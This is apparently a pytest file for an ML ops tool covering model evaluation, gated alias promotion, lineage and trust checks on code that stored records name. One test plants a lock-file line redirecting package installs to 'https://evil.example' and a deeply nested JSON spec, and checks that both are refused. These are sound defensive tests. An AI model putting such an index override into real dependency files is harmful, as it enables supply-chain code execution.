"""A registered version is measured in a streaming pass, judged, and moved on the record."""

import dataclasses
import json
import sys

import numpy as np
import pyarrow.parquet as pq
import pytest
import ray.data
from click.testing import CliRunner

from raymlops import cli
from raymlops.errors import DataError, ForbiddenError, SpecError, UserError
from raymlops.evaluation import results
from raymlops.lifecycle.govern import lineage, promotion, reproduce, scoring
from raymlops.lifecycle.govern import version_record as pipeline_recall
from raymlops.lifecycle.govern.evaluation_rows import Rows, choose_table, read_rows
from raymlops.models.session import open_session
from raymlops.settings import Settings
from raymlops.specs.document import validate_document
from raymlops.specs.experiment import ExperimentSpec
from raymlops.specs.training import NetworkSpec
from raymlops.tracking import evidence, history, registry, run_reader, store
from tests import small_models

TABLE = small_models.to_table(*small_models.draw_flights(6000, seed=1))
TRAIN = small_models.draw_flights(8000, seed=0)


def _spec(path, **gate):
    kinds = {"hour": "number", "distance": "number", "wind": "number", "carrier": "category"}
    return validate_document(
        {
            "name": "flights",
            "dataset": {"reader": "parquet", "path": str(path)},
            "features": {
                "target": {"column": "late", "task": "binary"},
                "columns": {name: {"kind": kind} for name, kind in kinds.items()},
            },
            "evaluation": {"slices": ["carrier"], "bootstrap": 200},
            "gate": {"bootstrap": 200, **gate},
        },
        ExperimentSpec,
    )


@pytest.fixture(scope="module")
def place(tmp_path_factory, ray_cluster):
    folder = tmp_path_factory.mktemp("trust")
    pq.write_table(TABLE, folder / "rows.parquet")
    return folder


@pytest.fixture(scope="module")
def models():
    weights = small_models.fit(*TRAIN)
    return {
        "good": small_models.build_model(weights),
        "swapped": small_models.build_model(weights, swapped=True),
    }


@pytest.fixture(scope="module")
def settings(tmp_path_factory):
    return Settings.from_env({"RAYMLOPS_HOME": str(tmp_path_factory.mktemp("home")), "USER": "ann"})


@pytest.fixture
def stranger(place, models, settings, tmp_path_factory):
    """Somebody with another key, who may write to the same store; the model's record is ours."""
    _register(settings, models["good"], _spec(place / "rows.parquet"))
    return dataclasses.replace(settings, home=tmp_path_factory.mktemp("strangers-home"), user="mallory")


def _register(settings, data, spec):
    client = store.connect(settings)
    experiment = store.ensure_experiment(client, "flights", settings)
    run = client.create_run(experiment.experiment_id).info.run_id
    client.log_text(run, json.dumps(spec.model_dump(mode="json")), "spec.json")
    version, _ = registry.register_version(
        client,
        name="flights",
        run=run,
        model=data,
        signature=open_session(data).signature,
        example=None,
        tags={"raymlops.fingerprint": "abc123", "raymlops.who": "ann"},
        files={},
        settings=settings,
    )
    return version


def test_a_pass_over_blocks_gives_the_sums_of_the_rows(ray_cluster, models):
    dataset = ray.data.from_arrow([TABLE.slice(start, 700) for start in range(0, 6000, 700)])
    streamed = scoring.measure_models(dataset, models, ["carrier"])
    sessions = {name: open_session(data) for name, data in models.items()}
    layout = streamed["good"].layout
    for name, part in scoring.observe_table(TABLE, sessions, layout, ["carrier"]).items():
        assert set(part.sums) == set(streamed[name].sums)
        assert all(np.allclose(part.sums[key], streamed[name].sums[key]) for key in part.sums)
    found = results.finish(streamed["good"])
    assert found.rows == 6000
    assert found.metrics["roc_auc"].low > 0.7


def test_an_unknown_slice_gets_the_near_one(ray_cluster, models):
    with pytest.raises(DataError, match="did you mean 'carrier'"):
        scoring.measure_models(ray.data.from_arrow(TABLE), {"m": models["good"]}, ["carier"])


def test_other_data_are_read_as_the_spec_says_and_wholly(place, ray_cluster):
    spec = _spec(place / "rows.parquet")
    assert read_rows(spec, choose_table(spec, str(place / "rows.parquet"))).dataset.count() == 6000
    rows = read_rows(spec)
    assert 0 < rows.dataset.count() < 2000
    assert rows.fingerprint
    assert rows.train is not None


def test_versions_go_through_the_gate_and_aliases_are_moved_on_the_record(place, models, settings):
    spec = _spec(place / "rows.parquet", variants=["fp16", "int8"], limits={"roc_auc": {"min": 0.6}})
    rows = Rows(ray.data.from_arrow(TABLE), spec.dataset, "rows", "abc123")
    said = []

    first = _register(settings, models["good"], spec)
    version, alias, trusted = promotion.admit_version(
        "flights", first, spec, rows, settings, "first", said.append
    )
    assert (version, alias) == (first, "champion")
    assert trusted.verdict.passed, str(trusted.verdict)
    assert {line.kind for line in trusted.variants} == {"original", "fp16", "int8"}
    assert "<svg" in trusted.report.read_text()

    second = _register(settings, models["swapped"], spec)
    version, alias, trusted = promotion.admit_version(
        "flights", second, spec, rows, settings, "bad", said.append
    )
    assert (version, alias) == (second, "challenger")
    assert trusted.champion.version == first

    client = store.connect(settings)
    uri = f"models:/flights/{second}"
    stored = json.loads(run_reader.read_text(client, uri, f"trust/version-{second}/verdict.json"))
    assert stored == trusted.verdict.to_json()
    tags = registry.find_version(client, uri).tags
    assert tags[evidence.GATE_TAG].startswith("blocked: ")
    assert tags[evidence.VERDICT_TAG] == trusted.verdict.sha256

    with pytest.raises(UserError, match="--force"):
        promotion.move_alias("flights", second, "champion", "please", settings)
    forced = promotion.move_alias("flights", second, "champion", "an emergency", settings, force=True)
    assert forced.forced
    assert forced.verdict == trusted.verdict.sha256
    assert promotion.roll_back("flights", "it was wrong", settings).version == first
    record = promotion.read_record("flights", settings)
    assert record.problems == ()
    moves = [entry.action for entry in record.entries if entry.alias]
    assert moves == ["search", "search", "search", "promote", "rollback"]
    others = [(entry.action, entry.version) for entry in record.entries if not entry.alias]
    assert others == [("register", first), ("gate", first), ("register", second), ("gate", second)]


def test_lineage_is_found_both_ways_and_differences_are_named(place, models, settings):
    spec = _spec(place / "rows.parquet")
    first = _register(settings, models["good"], spec)
    second = _register(settings, models["swapped"], _spec(place / "rows.parquet", margin=0.1))
    uris = [f"models:/flights/{version}" for version in (first, second)]
    facts = lineage.trace_version(uris[0], settings)
    assert facts["who"] == "ann"
    assert set(uris) <= {uri for uri, _ in lineage.find_versions(settings, data="abc")}
    assert lineage.find_versions(settings, data="nothing") == []
    changes = {(change.part, change.name) for change in lineage.compare_versions(*uris, settings)}
    assert {("spec", "gate.margin"), ("file", "sha256")} <= changes
    assert lineage.compare_versions(uris[0], uris[0], settings) == []


def test_the_smallest_file_that_passes_becomes_the_version(place, models, settings):
    spec = _spec(place / "rows.parquet", variants=["fp16"], smallest=True, leak={"error_cut": 1.0})
    rows = Rows(ray.data.from_arrow(TABLE), spec.dataset, "rows")
    first = _register(settings, models["good"], spec)
    version, alias, trusted = promotion.admit_version("flights", first, spec, rows, settings, "small", print)
    assert alias == "champion"
    small = registry.resolve(f"models:/flights/{version}", settings)
    if small.file.stat().st_size < trusted.version.file.stat().st_size:
        assert small.tags["raymlops.variant"] == f"fp16 of version {first}"
    else:
        assert version == first
    assert history.read_history(store.connect(settings), "flights", settings).problems == ()


def test_a_version_that_cannot_be_measured_stays_challenger_and_people_are_told(place, models, settings):
    spec = _spec(place / "rows.parquet")
    rows = Rows(ray.data.from_arrow(TABLE.drop_columns(["wind"])), spec.dataset, "rows")
    said = []
    first = _register(settings, models["good"], spec)
    version, alias, trusted = promotion.admit_version(
        "flights", first, spec, rows, settings, "x", said.append
    )
    assert (version, alias, trusted) == (first, "challenger", None)
    assert any("could not be judged" in line for line in said)


def test_code_that_a_record_names_is_run_only_by_who_trusts_it(
    place, models, settings, stranger, tmp_path, monkeypatch
):
    monkeypatch.setenv("RECORDED_CODE_FOLDER", str(tmp_path))
    sys.modules.pop("tests.recorded_code", None)
    plain = _spec(place / "rows.parquet")
    dataset = plain.dataset.model_copy(update={"reader": "tests.recorded_code:read_rows", "path": None})
    version = _register(stranger, models["good"], plain.model_copy(update={"dataset": dataset}))
    uri, client = f"models:/flights/{version}", store.connect(settings)
    found = registry.resolve(uri, settings)
    with pytest.raises(ForbiddenError, match=r"dataset\.reader: tests\.recorded_code:read_rows.*--trust"):
        pipeline_recall.read_spec(client, found)
    with pytest.raises(ForbiddenError, match="Nothing was run"):
        reproduce.reproduce_version(uri, settings, print)
    monkeypatch.setenv("RAYMLOPS_HOME", str(settings.home))
    for verb in ("gate", "evaluate", "reproduce"):
        answer = CliRunner().invoke(cli.raymlops, [verb, uri])
        assert isinstance(answer.exception, ForbiddenError), verb
    assert list(tmp_path.iterdir()) == []
    assert "tests.recorded_code" not in sys.modules

    said = []
    trusted = pipeline_recall.read_spec(client, found, trusted=True, tell=said.append)
    assert "tests.recorded_code:read_rows" in said[0]
    assert read_rows(trusted, None) is not None
    assert (tmp_path / "run").exists()


def test_code_of_a_record_that_a_trusted_key_signed_needs_no_word(place, models, settings, stranger):
    own = _spec(place / "rows.parquet").model_copy(
        update={"network": NetworkSpec(name="tests.own_networks:Linear")}
    )
    client = store.connect(settings)
    for signer, trusted in ((settings, True), (stranger, False)):
        version = _register(signer, models["good"], own)
        found = registry.resolve(f"models:/flights/{version}", settings)
        said = []
        if trusted:
            assert pipeline_recall.read_spec(client, found, tell=said.append) == own
            assert "tests.own_networks:Linear" in said[0]
        else:
            with pytest.raises(ForbiddenError, match=r"network\.name: tests\.own_networks:Linear"):
                pipeline_recall.read_spec(client, found)
            assert (
                pipeline_recall.read_spec(client, found, training=False) == own
            )  # the gate builds no network


def test_a_record_of_data_alone_needs_no_trust_and_its_lock_is_read_before_anything_runs(
    place, models, settings, stranger
):
    version = _register(stranger, models["good"], _spec(place / "rows.parquet"))
    uri, client = f"models:/flights/{version}", store.connect(settings)
    found = registry.resolve(uri, settings)
    assert pipeline_recall.read_spec(client, found) == _spec(place / "rows.parquet")
    run = registry.find_version(client, uri).run_id
    client.log_text(run, "# Python 3.11.7 on Linux x86_64\na==1\n", "requirements.lock.txt")
    with pytest.raises(ForbiddenError, match="packages: a==1; the code of commit unknown"):
        reproduce.reproduce_rebuilt(uri, settings, print)
    client.log_text(run, "a==1\n--index-url https://evil.example\n", "requirements.lock.txt")
    with pytest.raises(SpecError, match="line 2: '--index-url https://evil"):
        reproduce.reproduce_rebuilt(uri, settings, print, trusted=True)
    client.log_text(run, '{"a":' * 500 + "1" + "}" * 500, "spec.json")
    with pytest.raises(SpecError, match="nested deeper"):
        pipeline_recall.read_spec(client, found)
